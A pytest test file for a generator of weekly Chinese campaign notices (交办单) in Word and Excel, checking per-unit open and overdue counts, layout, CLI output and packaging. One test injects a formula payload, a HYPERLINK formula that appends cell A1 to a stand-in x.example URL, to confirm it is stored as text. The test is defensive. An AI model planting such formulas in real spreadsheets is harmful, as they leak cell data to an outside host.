"""交办单: one notice per unit with open problems at the week's end; the counts in each equal the store's (counted
here with pandas from the tables, not through the notices' query); the Word and Excel files hold them; the
command line writes one file per unit, named for it."""
import re
import shutil
import subprocess
from datetime import date

import duckdb
import pandas as pd
import pytest
from docx import Document
from python_calamine import CalamineWorkbook

from campaign.cli import main
from campaign.outputs import notices

END = date(2026, 11, 22)  # the demo's week 52


@pytest.fixture(scope="module")
def made(demo_db, tmp_path_factory):
    db = tmp_path_factory.mktemp("notices") / "copy.duckdb"  # a copy: a dashboard in this process may hold the demo
    shutil.copy(demo_db, db)
    con = duckdb.connect(str(db), read_only=True)
    try:
        ns = notices.build(con, "latest")
        p = con.execute("SELECT problem_id, found_on, deadline, closed_on, closed_by, is_closed, street FROM problems").df()
        u = con.execute("SELECT problem_id, department FROM problem_units").df()
    finally:
        con.close()
    end = pd.Timestamp(END)
    closed = p["closed_by"].le(end).where(p["closed_by"].notna(), p["is_closed"]).astype(bool)
    open_ = p[p["found_on"].le(end) & ~(p["closed_on"].notna() & p["closed_on"].le(end)) & ~closed]
    by_unit = open_.merge(u, on="problem_id").groupby("department").agg(
        open=("problem_id", "nunique"), overdue=("deadline", lambda d: int((d < end).sum())))
    return ns, by_unit, open_, db


def test_every_unit_with_open_problems_gets_one_notice_with_the_stores_counts(made):
    ns, by_unit, _, _ = made
    assert ns.week.end == END
    got = {n.unit: (n.open, n.overdue) for n in ns.notices}
    want = {k: (int(r.open), int(r.overdue)) for k, r in by_unit.iterrows()}
    assert got == want and len(got) >= 5
    worst = ns.notices[0]
    assert worst.overdue == max(o for _, o in want.values())  # the most overdue first
    assert all(n.rows["序号"].tolist() == list(range(1, n.open + 1)) for n in ns.notices)


def test_the_word_notice_lists_the_problems_and_has_a_reply_slip(made, tmp_path):
    ns, _, _, _ = made
    n = ns.notices[0]
    path = notices.notice_docx(ns, n, tmp_path / "n.docx")
    doc = Document(str(path))
    text = "\n".join(p.text for p in doc.paragraphs)
    assert f"{n.unit}：" in text and f"共有未整改问题{n.open}条，其中已逾期{n.overdue}条" in text
    assert "整改回执" in text and "单位负责人（签字）" in text
    problems, reply = doc.tables
    assert len(problems.rows) == n.open + 1 and len(reply.rows) == n.open + 1
    header = [c.text for c in problems.rows[0].cells]
    assert header[:4] == ["序号", "问题编号", "属地", "点位"] and "整改时限" in header
    first = [c.text for c in problems.rows[1].cells]
    assert first[1] == n.rows["问题编号"].iat[0]
    overdue_cells = [r.cells[header.index("整改情况")].text for r in problems.rows[1:]]
    assert sum(bool(re.fullmatch(r"逾期\d+天", c)) for c in overdue_cells) == n.overdue
    sect = doc.sections[0]
    assert sect.page_width > sect.page_height  # A4 landscape


def test_the_workbook_has_a_sheet_per_unit_and_stores_text_as_text(made, tmp_path):
    ns, by_unit, _, _ = made
    path = notices.workbook(ns, tmp_path / "w.xlsx")
    wb = CalamineWorkbook.from_path(str(path))
    names = wb.sheet_names
    assert names[0] == "汇总" and names[-1] == "催办清单" and len(names) == len(ns.notices) + 2
    summary = wb.get_sheet_by_name("汇总").to_python()
    assert summary[1][:3] == ["责任单位", "未整改", "其中逾期"]
    assert {r[0]: (int(r[1]), int(r[2])) for r in summary[2:]} == \
        {k: (int(r.open), int(r.overdue)) for k, r in by_unit.iterrows()}
    first = wb.get_sheet_by_name(names[1]).to_python()
    assert len(first) - 2 == ns.notices[0].open
    import zipfile
    sheet_xml = zipfile.ZipFile(path).read("xl/worksheets/sheet2.xml").decode()
    assert "<f>" not in sheet_xml  # no formulas, whatever the text


def test_a_formula_in_a_description_stays_text(made, tmp_path):
    ns, _, _, _ = made
    n = ns.notices[0]
    n.rows.loc[0, "问题描述"] = '=HYPERLINK("http://x.example/?q="&A1,"点此查看")'
    try:
        path = notices.workbook(ns, tmp_path / "f.xlsx")
        import zipfile
        xml = zipfile.ZipFile(path).read("xl/worksheets/sheet2.xml").decode()
        assert "<f>" not in xml
        rows = CalamineWorkbook.from_path(str(path)).get_sheet_by_name(
            CalamineWorkbook.from_path(str(path)).sheet_names[1]).to_python()
        assert rows[2][4].startswith("=HYPERLINK(")
    finally:
        n.rows.loc[0, "问题描述"] = "x"


def test_the_soon_list_holds_the_overdue_and_the_nearly_due(made):
    ns, _, open_, _ = made
    soon = ns.soon
    overdue = sum(n.overdue for n in ns.notices)
    nearly = soon["整改情况"].str.startswith("剩") | soon["整改情况"].eq("今日到期")
    assert int(soon["整改情况"].str.startswith("逾期").sum()) == overdue
    assert soon.loc[nearly, "整改情况"].str.extract(r"剩(\d+)个")[0].dropna().astype(int).le(3).all()


def test_street_notices_count_each_problem_once(made):
    con = duckdb.connect(str(made[3]), read_only=True)
    try:
        ns = notices.build(con, "latest", by="street")
        want = con.execute("""SELECT street, count(*) FROM problems WHERE found_on <= ? AND NOT (closed_on IS NOT NULL
            AND closed_on <= ?) AND NOT coalesce(closed_by <= ?, is_closed) GROUP BY 1""", [END] * 3).fetchall()
    finally:
        con.close()
    assert {n.unit: n.open for n in ns.notices} == dict(want)


def test_the_command_line_writes_one_file_per_unit(made, demo_db, tmp_path, capsys):
    ns, by_unit, _, _ = made
    db = tmp_path / "n.duckdb"
    shutil.copy(demo_db, db)
    out = tmp_path / "交办单"
    assert main(["notices", "--db", str(db), "--week", "latest", "--out", str(out)]) == 0
    files = sorted(out.glob("*.docx"))
    assert len(files) == len(by_unit)
    assert {f.stem.split("_", 2)[2] for f in files} == set(by_unit.index)
    assert (out / "交办单_第52周_汇总.xlsx").is_file()
    printed = capsys.readouterr().out
    for unit, r in by_unit.iterrows():
        assert f"交办单_第52周_{unit}.docx\t未整改 {int(r.open)} 条，逾期 {int(r.overdue)} 条" in printed


def test_libreoffice_opens_a_notice(made, tmp_path):
    ns, _, _, _ = made
    n = ns.notices[0]
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    assert soffice, "LibreOffice 未安装：运行 scripts/setup.sh --dev"
    src = notices.notice_docx(ns, n, tmp_path / "notice.docx")
    run = subprocess.run([soffice, f"-env:UserInstallation=file://{tmp_path / 'profile'}", "--headless",
                          "--convert-to", "pdf", "--outdir", str(tmp_path), str(src)],
                         capture_output=True, text=True, timeout=240)
    pdf = tmp_path / "notice.pdf"
    assert run.returncode == 0 and pdf.is_file(), run.stderr
    text = re.sub(r"\s+", "", subprocess.run(["pdftotext", "-enc", "UTF-8", str(pdf), "-"], capture_output=True,
                                             text=True, check=True).stdout)
    assert "创城问题交办单" in text and "整改回执" in text and n.rows["问题编号"].iat[-1] in text


def test_the_zip_holds_every_notice_and_the_workbook(made):
    import io
    import zipfile

    ns, by_unit, _, _ = made
    z = zipfile.ZipFile(io.BytesIO(notices.zip_bytes(ns)))
    names = z.namelist()
    assert len(names) == len(by_unit) + 1 and "交办单_第52周_汇总.xlsx" in names
    assert {n[len("交办单_第52周_"):-len(".docx")] for n in names if n.endswith(".docx")} == set(by_unit.index)
